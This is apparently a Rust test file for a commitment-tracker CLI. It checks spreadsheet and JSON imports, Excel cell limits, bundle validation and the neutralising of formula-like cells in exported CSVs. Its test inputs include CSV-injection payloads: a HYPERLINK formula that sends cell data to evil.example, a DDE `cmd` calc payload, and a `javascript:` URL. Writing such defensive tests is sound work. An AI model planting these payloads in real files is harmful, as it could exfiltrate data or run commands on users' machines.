//! The inputs people actually have (`tests/fixtures/cases/`, copied from the field cases, and
//! files made here for each kind): Excel's encodings and separators, IDs that spreadsheets
//! turned into floats or typed full-width, workbooks with a stray far cell, formula-like
//! cells in every CSV the product writes, cells over Excel's limit, bundles that break the
//! app's rules, and a reader that goes away. Each through the real `ct` or the services, on
//! a real database file.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use commitment_tracker::domain::{CommitmentFilter, ReportInput};
use commitment_tracker::export::{ExportFormat, ExportScope, Job};
use commitment_tracker::services::{commitments, exchange, reports};

use crate::support::{bytes, ct, stderr, stdout, TestDb};

fn case(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/cases")
        .join(name)
}

fn description(db: &TestDb, public: &str) -> String {
    commitments::find_by_commitment_id(db.app.store(), None, public)
        .unwrap()
        .description
}

fn write(dir: &Path, name: &str, content: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, content).unwrap();
    path
}

/// `ct import catalogue FILE --apply` on the test database; the output.
fn import_catalogue(db: &TestDb, file: &Path) -> std::process::Output {
    ct(&db.path())
        .args(["import", "catalogue"])
        .arg(file)
        .arg("--apply")
        .output()
        .unwrap()
}

fn utf16le_with_bom(text: &str) -> Vec<u8> {
    let mut out = vec![0xff, 0xfe];
    out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    out
}

#[test]
fn excel_encodings_and_separators_are_read_as_excel_wrote_them() {
    let db = TestDb::seeded();
    let dir = db.dir.path().to_owned();
    // The field cases: "Unicode Text" (UTF-16 LE) and French Excel's `;` with a BOM.
    for name in ["02-excel-unicode-text.csv", "03-semicolon-french-excel.csv"] {
        let out = import_catalogue(&db, &case(name));
        assert!(out.status.success(), "{name}: {}", stderr(&out));
    }
    assert_eq!(
        description(&db, "200021"),
        "Déplacement; l'OIM renforcera la coordination",
        "the quoted `;` inside a `;` file stays in its cell"
    );
    // Made here: tab-separated UTF-16 (what Excel's "Unicode Text" really writes), UTF-16
    // big-endian without a mark, Windows-1252 with `|`.
    let header = [
        "Commitment ID",
        "Type",
        "Core responsibilities",
        "Description",
    ];
    let line = |sep: &str, cells: &[&str]| format!("{}\r\n", cells.join(sep));
    let tab =
        line("\t", &header) + &line("\t", &["200030", "Policy", "3", "Año de déplacement — tab"]);
    let be: Vec<u8> = (line(",", &header) + &line(",", &["200031", "Policy", "3", "Ünïcode BE"]))
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    let piped = line("|", &header) + &line("|", &["200032", "Policy", "3", "Coordination — l'été"]);
    let (cp1252, _, _) = encoding_rs::WINDOWS_1252.encode(&piped);
    for (name, content) in [
        ("tab.csv", utf16le_with_bom(&tab)),
        ("be.csv", be),
        ("cp1252.csv", cp1252.into_owned()),
    ] {
        let out = import_catalogue(&db, &write(&dir, name, &content));
        assert!(out.status.success(), "{name}: {}", stderr(&out));
    }
    assert_eq!(description(&db, "200030"), "Año de déplacement — tab");
    assert_eq!(description(&db, "200031"), "Ünïcode BE");
    assert_eq!(description(&db, "200032"), "Coordination — l'été");
}

#[test]
fn ids_written_as_floats_or_full_width_are_the_commitments_they_name() {
    let db = TestDb::seeded();
    let out = import_catalogue(&db, &case("06-ids-as-floats.csv"));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        db.all_ids().len(),
        19,
        "no commitment added: {:?}",
        db.all_ids()
    );
    assert_eq!(description(&db, "200001"), "IOM commits to (edited text)");
    assert_eq!(description(&db, "200002"), "IOM commits to (edited text 2)");
    // Full-width digits and a no-break space, as an East Asian keyboard or a PDF copy gives.
    let csv = "Commitment ID,Type,Core responsibilities,Description\n\
               \u{a0}２００００３\u{a0},Policy,3,Full-width ID\n";
    let out = import_catalogue(&db, &write(db.dir.path(), "fw.csv", csv.as_bytes()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(db.all_ids().len(), 19);
    assert_eq!(description(&db, "200003"), "Full-width ID");
    // And in the commitment form.
    let e = commitments::create(
        db.app.store(),
        &db.actor,
        &crate::support::input("２０００１０"),
    )
    .unwrap_err();
    assert!(
        e.to_string().contains("200010"),
        "a duplicate of 200010: {e}"
    );
}

#[test]
fn json_with_a_byte_order_mark_or_in_utf16_is_read() {
    let db = TestDb::empty();
    let out = ct(&db.path())
        .args(["--no-seed", "import", "catalogue"])
        .arg(case("15-json-with-bom.json"))
        .arg("--apply")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(db.all_ids(), vec!["200020"]);
    // The same file saved as UTF-16 by Notepad.
    let text = std::fs::read_to_string(case("15-json-with-bom.json")).unwrap();
    let json16 = write(
        db.dir.path(),
        "utf16.json",
        &utf16le_with_bom(
            text.trim_start_matches('\u{feff}')
                .replace("200020", "200021")
                .as_str(),
        ),
    );
    let out = ct(&db.path())
        .args(["import", "catalogue"])
        .arg(&json16)
        .arg("--apply")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(db.all_ids(), vec!["200020", "200021"]);
}

#[test]
fn a_workbook_with_a_stray_far_cell_is_read_cell_by_cell() {
    let db = TestDb::seeded();
    // A1:XFD1048576 used because of one stray cell: a dense read is 17 billion cells, which
    // ended the process (exit 134) before.
    let out = import_catalogue(&db, &case("stray-far-cell.xlsx"));
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert_eq!(db.all_ids().len(), 20);
    assert_eq!(
        description(&db, "200001"),
        "IOM commits to (edited in a workbook with a stray cell)"
    );
    // A stray value within the table's columns, far down: one more row, refused by name.
    let path = db.dir.path().join("far-row.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    for (c, h) in [
        "Commitment ID",
        "Type",
        "Core responsibilities",
        "Description",
    ]
    .iter()
    .enumerate()
    {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    sheet.write_number(1, 0, 200040.0).unwrap();
    sheet.write_string(1, 1, "Policy").unwrap();
    sheet.write_number(1, 2, 3.0).unwrap();
    sheet.write_string(1, 3, "Row two").unwrap();
    sheet.write_string(1_048_575, 1, "Policy").unwrap();
    sheet.write_string(5, 16_383, "far right").unwrap();
    wb.save(&path).unwrap();
    let before = bytes(&db.path());
    let out = import_catalogue(&db, &path);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("row 1048576"),
        "the far row is named: {}",
        stderr(&out)
    );
    assert_eq!(bytes(&db.path()), before, "nothing written");
    // A header cell far right and a value far right on many rows: refused plainly, not
    // laid out as 16,384 cells a row.
    let path = db.dir.path().join("wide.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.write_string(0, 0, "Commitment ID").unwrap();
    for row in 0..700 {
        sheet.write_string(row, 16_383, "far right").unwrap();
    }
    wb.save(&path).unwrap();
    let out = import_catalogue(&db, &path);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("too wide and sparse"),
        "{}",
        stderr(&out)
    );
    assert_eq!(bytes(&db.path()), before, "nothing written");
}

/// Cells as a spreadsheet would run them, and what each must become.
const FORMULA_LIKE: [&str; 10] = [
    " =HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "\u{a0}=1+1",
    "=cmd|' /C calc'!A0",
    "\n=1+1",
    "\u{200b}@SUM(A1)",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠A1",
    "\t-A1",
];

#[test]
fn every_csv_the_product_writes_neutralises_formula_like_cells() {
    let db = TestDb::seeded();
    let store = db.app.store();
    // The field cases, as a report's achievements; the others as challenges of other years.
    let cases: Vec<String> = [
        "10-formula-dde.md",
        "10-formula-leading-space.md",
        "10-formula-nbsp.md",
    ]
    .iter()
    .map(|n| std::fs::read_to_string(case(n)).unwrap())
    .collect();
    let commitment = commitments::find_by_commitment_id(store, None, "200009")
        .unwrap()
        .id;
    let mut texts: Vec<String> = cases.clone();
    texts.extend(FORMULA_LIKE.iter().map(|s| s.to_string()));
    texts.extend(["-5", "+3.2", "1e-3", "-inf"].map(str::to_owned));
    for (i, text) in texts.iter().enumerate() {
        let input = ReportInput {
            status: "In progress".into(),
            achievements: text.clone(),
            challenges: String::new(),
            next_steps: String::new(),
            evidence: vec![],
            progress: None,
            tags: vec![],
        };
        let c = if i < 9 {
            commitment.clone()
        } else {
            commitments::find_by_commitment_id(store, None, &format!("2000{:02}", i - 8))
                .unwrap()
                .id
        };
        reports::create(store, &db.actor, "fp", &c, 2016 + (i as i32 % 9), &input).unwrap();
    }
    let path = db.dir.path().join("out.csv");
    let scope = ExportScope {
        from_year: Some(2016),
        to_year: Some(2024),
        ..Default::default()
    };
    exchange::export_to(
        &db.app,
        ExportFormat::Csv,
        &scope,
        false,
        &path,
        &Job::unwatched(),
    )
    .unwrap();
    let mut rdr = csv::Reader::from_path(&path).unwrap();
    let cells: Vec<String> = rdr
        .records()
        .map(|r| r.unwrap().get(9).unwrap().to_owned())
        .collect();
    for text in &texts {
        let plain_number = ["-5", "+3.2", "1e-3"].contains(&text.as_str());
        let want = if plain_number {
            text.clone()
        } else {
            format!("'{text}")
        };
        assert!(
            cells.contains(&want),
            "{text:?} should be written as {want:?}; cells: {cells:?}"
        );
    }
    // The CLI's own CSV: commitments list, status and search.
    let mut form = crate::support::input("300001");
    form.description = " =HYPERLINK(\"http://evil.example\",\"Click\") commitment".into();
    commitments::create(store, &db.actor, &form).unwrap();
    for args in [
        vec!["commitments", "list", "--format", "csv"],
        vec!["search", "HYPERLINK", "--format", "csv"],
        vec!["status", "--year", "2019", "--format", "csv"],
    ] {
        let out = ct(&db.path()).args(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(out.stdout.as_slice());
        for record in rdr.records() {
            for cell in record.unwrap().iter() {
                let first = cell.chars().find(|c| !c.is_whitespace());
                assert!(
                    !matches!(first, Some('=' | '+' | '@' | '＝' | '＋' | '＠'))
                        && (first != Some('-') || cell.trim().parse::<f64>().is_ok()),
                    "{args:?} printed an unneutralised cell {cell:?}"
                );
            }
        }
        if args[0] == "commitments" {
            assert!(
                stdout(&out).contains("'=HYPERLINK") || stdout(&out).contains("' =HYPERLINK"),
                "{args:?}: {}",
                stdout(&out)
            );
        }
    }
}

#[test]
fn a_narrative_over_excels_cell_limit_is_cut_in_utf16_units_between_characters() {
    let db = TestDb::seeded();
    let store = db.app.store();
    // 30,000 characters, most of them two UTF-16 units each (~52,000 units; Excel holds
    // 32,767), with family emoji (one character of seven code points) and accented letters.
    let family = "👨\u{200d}👩\u{200d}👧\u{200d}👦";
    let mut text = String::new();
    while text.chars().count() < 30_000 {
        text.push_str("😀😀😀😀😀😀😀😀😀😀e\u{301}");
        text.push_str(family);
    }
    let input = ReportInput {
        status: "Completed".into(),
        achievements: text.clone(),
        challenges: String::new(),
        next_steps: String::new(),
        evidence: vec![],
        progress: None,
        tags: vec![],
    };
    let c = commitments::find_by_commitment_id(store, None, "200009")
        .unwrap()
        .id;
    reports::create(store, &db.actor, "fp", &c, 2019, &input).unwrap();
    let scope = ExportScope {
        from_year: Some(2019),
        to_year: Some(2019),
        ..Default::default()
    };
    let xlsx = db.dir.path().join("out.xlsx");
    exchange::export_to(
        &db.app,
        ExportFormat::Xlsx,
        &scope,
        false,
        &xlsx,
        &Job::unwatched(),
    )
    .unwrap();
    use calamine::Reader;
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let range = wb.worksheet_range("Reports").unwrap();
    let cell = range
        .rows()
        .find_map(|r| {
            r.iter()
                .map(|d| d.to_string())
                .find(|s| s.contains("cut at Excel's cell limit"))
        })
        .expect("the cut narrative, with its note");
    assert!(
        cell.encode_utf16().count() <= 32_767,
        "{}",
        cell.encode_utf16().count()
    );
    let kept = cell.split(" … [cut at").next().unwrap();
    assert!(kept.encode_utf16().count() > 32_000, "cut near the limit");
    assert!(
        text.starts_with(kept),
        "the kept text is the start of the narrative"
    );
    let rest = &text[kept.len()..];
    assert!(
        rest.starts_with('😀') || rest.starts_with('e') || rest.starts_with(family),
        "cut between two characters, never inside one: {:?}",
        rest.chars().take(3).collect::<String>()
    );
    // The CSV and the bundle keep it whole.
    let csv_path = db.dir.path().join("out.csv");
    exchange::export_to(
        &db.app,
        ExportFormat::Csv,
        &scope,
        false,
        &csv_path,
        &Job::unwatched(),
    )
    .unwrap();
    let csv_text = std::fs::read_to_string(&csv_path).unwrap();
    assert!(csv_text.contains(&text));
}

/// `ct --no-seed import bundle FILE --apply` must fail naming `needles`, writing nothing.
fn refused_bundle(db: &TestDb, file: &Path, needles: &[&str]) {
    let before = bytes(&db.path());
    let out = ct(&db.path())
        .args(["--no-seed", "import", "bundle"])
        .arg(file)
        .arg("--apply")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    for needle in needles {
        assert!(
            stderr(&out).contains(needle),
            "{needle:?} not in: {}",
            stderr(&out)
        );
    }
    assert!(
        !stderr(&out).contains("CHECK constraint"),
        "{}",
        stderr(&out)
    );
    assert_eq!(bytes(&db.path()), before, "nothing written");
}

#[test]
fn every_record_of_a_bundle_is_checked_by_the_apps_rules_and_nothing_is_written() {
    let db = TestDb::empty();
    refused_bundle(
        &db,
        &case("17-bundle-year-2015.json"),
        &[
            "table reports",
            "record 1",
            "field year",
            "between 2016 and",
        ],
    );
    let good: serde_json::Value =
        serde_json::from_slice(&std::fs::read(case("17-bundle-year-2015.json")).unwrap()).unwrap();
    let next_year = commitment_tracker::services::reports::current_year() + 2;
    let edits: Vec<(&str, &str, serde_json::Value, Vec<&str>)> = vec![
        (
            "reports",
            "year",
            next_year.into(),
            vec!["field year", "between 2016 and"],
        ),
        (
            "reports",
            "status",
            "In progress".into(),
            vec![
                "field status",
                "\"In progress\" is not one of NotStarted, InProgress",
            ],
        ),
        (
            "reports",
            "review_state",
            "draft".into(),
            vec!["field review_state"],
        ),
        (
            "organisations",
            "code",
            "X".repeat(500).into(),
            vec!["table organisations", "field code", "longer than 16"],
        ),
        (
            "organisations",
            "code",
            "ab cd".into(),
            vec!["table organisations", "field code", "only letters"],
        ),
        (
            "commitments",
            "public_id",
            good["tables"]["commitments"][1]["public_id"].clone(),
            vec![
                "table commitments",
                "organisation_id, public_id",
                "appears again",
            ],
        ),
        (
            "reports",
            "status",
            "Finished".into(),
            vec!["field status", "\"Finished\""],
        ),
        (
            "reports",
            "review_state",
            "Published".into(),
            vec!["field review_state"],
        ),
        ("reports", "progress", 140.into(), vec!["field progress"]),
        (
            "reports",
            "evidence",
            r#"[{"title":"x","url":"javascript:alert(1)"}]"#.into(),
            vec!["field evidence", "https://"],
        ),
        (
            "reports",
            "achievements",
            "x".repeat(50_001).into(),
            vec!["field achievements", "50000"],
        ),
        (
            "reports",
            "commitment_id",
            "nope".into(),
            vec!["field commitment_id", "nope is not in the bundle"],
        ),
        (
            "commitments",
            "kind",
            "Magic".into(),
            vec!["table commitments", "field kind"],
        ),
        (
            "commitments",
            "public_id",
            "".into(),
            vec!["field public_id", "required"],
        ),
        (
            "reporting_cycles",
            "deadline",
            "2019-01-01".into(),
            vec!["table reporting_cycles", "field deadline"],
        ),
        (
            "review_events",
            "to_state",
            "Gone".into(),
            vec!["table review_events", "field to_state"],
        ),
    ];
    for (table, field, value, needles) in edits {
        let mut b = good.clone();
        let tables = b["tables"].as_object_mut().unwrap();
        // Make the file's own year valid first, so the edit is what is refused.
        for r in tables["reports"].as_array_mut().unwrap() {
            r["year"] = 2019.into();
        }
        let rows = tables
            .entry(table)
            .or_insert_with(|| serde_json::json!([]))
            .as_array_mut()
            .unwrap();
        if rows.is_empty() {
            rows.push(match table {
                "reporting_cycles" => serde_json::json!({"year": 2020, "deadline": "2021-03-31",
                    "opened_by": "x", "opened_at": "2020-01-01T00:00:00.000Z", "updated_at": "2020-01-01T00:00:00.000Z"}),
                _ => serde_json::json!({"id": "e1", "report_id": good["tables"]["reports"][0]["id"],
                    "from_state": "Draft", "to_state": "Submitted", "actor": "x", "role": "FocalPoint",
                    "comment": null, "created_at": "2020-01-01T00:00:00.000Z"}),
            });
        }
        rows[0][field] = value;
        let file = write(
            db.dir.path(),
            "edited.json",
            &serde_json::to_vec(&b).unwrap(),
        );
        refused_bundle(&db, &file, &needles);
    }
    // The same file with a valid year restores.
    let mut b = good.clone();
    for r in b["tables"]["reports"].as_array_mut().unwrap() {
        r["year"] = 2019.into();
    }
    let file = write(
        db.dir.path(),
        "fixed.json",
        &serde_json::to_vec(&b).unwrap(),
    );
    let out = ct(&db.path())
        .args(["--no-seed", "import", "bundle"])
        .arg(&file)
        .arg("--apply")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!db.ids(&CommitmentFilter::default()).is_empty());
}

#[test]
fn a_reader_that_goes_away_ends_the_command_quietly() {
    let db = TestDb::seeded();
    for args in [
        vec!["search", "displacement"],
        vec!["commitments", "list", "--format", "csv"],
        vec!["commitments", "list", "--format", "json"],
        vec!["catalogue"],
    ] {
        let mut child = ct(&db.path())
            .args(&args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // `| head -0`: the reader closes before the command writes.
        drop(child.stdout.take());
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(141), "{args:?}: {status:?} {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(err.is_empty(), "{args:?} said: {err}");
    }
}

#[test]
fn a_csv_whose_shape_is_broken_is_refused_naming_the_row_and_nothing_changes() {
    let db = TestDb::seeded();
    let header =
        "Commitment ID,Type,Core responsibilities,Description,Transformations,Organisation\n";
    let good = "200020,Operational,3,Fine,3A,IOM\n";
    for (name, body, needle) in [
        // The csv crate reads an unclosed quote as one cell to the end of the file.
        (
            "unclosed.csv",
            format!("{header}{good}200021,Operational,3,\"unclosed quote,3A,IOM\n200022,Policy,3,Next,3A,IOM\n"),
            "row 3: a quoted cell is never closed",
        ),
        // A lost cell moves the rest left: Transformations would be silently emptied.
        (
            "short.csv",
            format!("{header}{good}200001,Policy,1,Edited,IOM\n"),
            "row 3: 5 cells where the header names 6 columns",
        ),
        (
            "long.csv",
            format!("{header}200001,Policy,1,Edited,1A,IOM,stray\n"),
            "row 2: a value in column 7, beyond the last named column",
        ),
        (
            "org.csv",
            format!("{header}200030,Policy,3,Spaced code,3A,ab cd\n"),
            "may hold only letters, digits",
        ),
    ] {
        let before = bytes(&db.path());
        let out = import_catalogue(&db, &write(db.dir.path(), name, body.as_bytes()));
        assert_eq!(out.status.code(), Some(1), "{name}: {}", stdout(&out));
        assert!(stderr(&out).contains(needle), "{name}: {}", stderr(&out));
        assert_eq!(bytes(&db.path()), before, "{name}: nothing written");
    }
    // Quotes that close, escaped quotes, a quote inside an unquoted cell, trailing empty cells
    // and an empty trailing header cell are all fine.
    let fine = format!(
        "{}{}",
        header.replace('\n', ",\n"),
        "200020,Operational,3,\"A \"\"quoted\"\" word, and a comma\",3A,IOM,\n200021,Policy,3,A 5\" screen,,IOM,\n"
    );
    let out = import_catalogue(&db, &write(db.dir.path(), "fine.csv", fine.as_bytes()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(description(&db, "200020"), "A \"quoted\" word, and a comma");
    assert_eq!(description(&db, "200021"), "A 5\" screen");
}

#[test]
fn ids_in_other_digits_or_as_json_numbers_name_the_same_commitment_and_mixed_up_files_are_named() {
    let db = TestDb::seeded();
    // Arabic-Indic digits in a CSV, as an Arabic keyboard types them.
    let csv =
        "Commitment ID,Type,Core responsibilities,Description\n٢٠٠٠٠٤,Policy,3,Arabic-Indic ID\n";
    let out = import_catalogue(&db, &write(db.dir.path(), "ar.csv", csv.as_bytes()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(db.all_ids().len(), 19);
    assert_eq!(description(&db, "200004"), "Arabic-Indic ID");
    // Numbers in a JSON catalogue.
    let json = r#"{"format":"commitment-tracker/catalogue","formatVersion":1,"organisations":[],
        "commitments":[{"commitmentId":200005,"organisation":"IOM","type":"Policy","coreResponsibilities":[1],"description":"Numeric ID","transformations":[]},
                       {"commitmentId":200006.0,"organisation":"IOM","type":"Policy","coreResponsibilities":[4],"description":"Float ID","transformations":[]}]}"#;
    let out = import_catalogue(&db, &write(db.dir.path(), "n.json", json.as_bytes()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(db.all_ids().len(), 19);
    assert_eq!(description(&db, "200005"), "Numeric ID");
    assert_eq!(description(&db, "200006"), "Float ID");
    // An address or a CLI argument typed in full-width digits finds the commitment.
    let c =
        commitments::find_by_commitment_id(db.app.store(), Some("IOM"), "２０００１０").unwrap();
    assert_eq!(c.commitment_id, "200010");
    // A bundle given to the catalogue import, and a catalogue given to the bundle import.
    let bundle = db.dir.path().join("b.json");
    let out = ct(&db.path())
        .args(["export", "--format", "json", "--out"])
        .arg(&bundle)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let out = import_catalogue(&db, &bundle);
    assert!(
        stderr(&out).contains("this is a data bundle, not a catalogue"),
        "{}",
        stderr(&out)
    );
    let out = ct(&db.path())
        .args(["import", "bundle"])
        .arg(db.dir.path().join("n.json"))
        .output()
        .unwrap();
    assert!(
        stderr(&out).contains("this is a catalogue file, not a bundle"),
        "{}",
        stderr(&out)
    );
    // A list excerpt keeps blocks apart (a code block inside a tight list item).
    let excerpt = commitment_tracker::domain::report::excerpt_of(
        "- item DELTA4\n\n  ```\n  code ECHO5\n  ```\n- next",
    );
    assert!(excerpt.contains("DELTA4 code ECHO5"), "{excerpt}");
}
